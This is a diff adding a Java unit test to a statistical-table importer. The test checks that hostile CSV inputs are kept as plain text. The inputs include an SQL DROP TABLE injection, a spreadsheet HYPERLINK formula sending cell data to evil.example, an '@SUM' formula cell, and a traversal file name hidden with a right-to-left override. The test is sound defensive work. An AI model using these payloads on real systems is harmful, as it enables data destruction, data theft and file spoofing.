@@ -17,6 +17,7 @@ import ca.lipworkbench.engine.geography.GeographicLevel;
 import ca.lipworkbench.engine.statistics.Additivity;
 import ca.lipworkbench.engine.statistics.RoundingModel;
 import ca.lipworkbench.engine.statistics.StatusSet;
+import ca.lipworkbench.engine.table.Release;
 import ca.lipworkbench.engine.table.TableName;
 import ca.lipworkbench.engine.table.Unit;
 import ca.lipworkbench.engine.text.BilingualText;
@@ -146,6 +147,48 @@ class DescribedRowsTest {
     assertEquals(2, home.release(file).number());
     Files.writeString(file, EXPORT.replace("Sex", "Gender"));
     assertEquals(ImportReason.LAYOUT_UNKNOWN, home.load(file).messages().getFirst().reason());
+  }
+
+  @Test
+  void wordsThatAreMeantToDoHarmAreKeptAsWords() throws IOException, SQLException {
+    String drop = "x'; DROP TABLE observations;--";
+    String formula = "=HYPERLINK(\"\"http://evil.example/?\"\"&A1)";
+    Files.writeString(
+        file,
+        "\"Area\",\"%s\",\"%s\",\"Value\"\r\n2021A00051307045,\"%s\",\"@SUM(1)\",5\r\n"
+            .formatted(drop, drop, formula));
+    ColumnAnswers answers =
+        new ColumnAnswers(
+            new TableName("hostile"),
+            BilingualText.of(drop, drop),
+            ',',
+            NumberStyle.PLAIN,
+            1,
+            AreaColumns.dguid(1, OptionalInt.empty()),
+            new PeriodColumns(PeriodKind.FIXED, List.of(), "2021"),
+            List.of(2, 3),
+            OptionalInt.empty(),
+            List.of(
+                new Values(
+                    4, List.of(), Unit.NUMBER, Additivity.UNKNOWN, RoundingModel.UNKNOWN, 0)),
+            Map.of(),
+            Zeros.TRUE);
+    Describer.Outcome outcome =
+        new Describer(Areas.shipped())
+            .describe(file, "../../a\u202Evsc.exe", answers, folder.resolve("scratch"));
+    home.descriptors()
+        .save(assertInstanceOf(Describer.Outcome.Drafted.class, outcome).descriptor());
+    Release release = home.release(file);
+    assertEquals(
+        Map.of(
+            "2021A00051307045|2021|value|hyperlink-http-evil-example-a1|sum-1",
+            new Observed(OptionalDouble.of(5), 0)),
+        TestHome.observations(release));
+    assertEquals(
+        List.of("=HYPERLINK(\"http://evil.example/?\"&A1)"),
+        release.structure().dimensions().getFirst().codes().stream()
+            .map(code -> code.name().english())
+            .toList());
   }
 
   @Test
